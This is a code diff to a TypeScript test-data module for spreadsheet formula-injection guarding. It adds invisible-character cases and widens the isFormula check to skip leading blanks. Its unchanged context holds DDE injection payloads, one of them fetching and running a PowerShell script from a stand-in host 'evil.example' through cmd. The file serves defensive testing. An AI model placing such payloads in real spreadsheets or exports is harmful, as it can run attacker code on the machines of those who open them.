@@ -14,6 +14,12 @@ export const STARTS: readonly string[] = [
   '\uFEFF',
 ];
 
+/** Blanks and invisible characters that a spreadsheet may strip before it looks for a formula. */
+export const BLANKS: readonly string[] = [
+  ...[' ', '\u00A0', '\u3000', '\u2003', '\v', '\x1F', '\x85'],
+  ...['\u200B', '\u200D', '\u00AD', '\u2060', '\u202E', '\u2066', '\u061C', '\uFE0F', '\u3164'],
+];
+
 const payloads = [
   `=cmd|'/c calc'!A1`,
   `=cmd|' /C powershell IEX(wget evil.example/x)'!A0`,
@@ -30,6 +36,8 @@ export const formulas: readonly string[] = [
   ...STARTS,
   ...STARTS.map((start) => `${start}1+1`),
   ...payloads,
+  ...BLANKS.map((blank) => `${blank}=1+1`),
+  ...['  =1+1', ' \u200B\u00A0＝1', ' \t-1', '\u2066\uFEFF@x'],
   ...['-5', '+1', '-2+3', '+86 138', '--1', '=-1', '-0', '=""', '="x"', `='x'`, '\t=1', '\r\n=1', '\n\n@x'],
   ...['=1,2', '=1;2', '=1|2', '=1\t2', '=1\n2', '=1\r\n2', '=灯', '=😀', '=\\.', `=${'x'.repeat(300)}`],
 ];
@@ -53,12 +61,16 @@ export const harmless: readonly string[] = [
     '\\.',
     '\\N',
   ],
+  ...BLANKS.flatMap((blank) => [`${blank}1`, `${blank}灯=1`]),
   ...['#=1', '!=1', '&=1', '*=1', '/=1', '%=1', '\u2212' + '5', '\u2010x', '—', '＂', 'x\n=1+1', 'NULL'],
 ];
 
 /** Whether a spreadsheet would take a cell for a formula. */
 export function isFormula(cell: string): boolean {
-  return STARTS.some((start) => cell.startsWith(start));
+  return (
+    STARTS.some((start) => cell.startsWith(start)) ||
+    /^[\s\p{Cc}\p{Default_Ignorable_Code_Point}\uFEFF]*[=+\-@＝＋－＠]/u.test(cell)
+  );
 }
 
 /** What the cell of a text must be where formulas are guarded: one apostrophe more, or the text itself. */
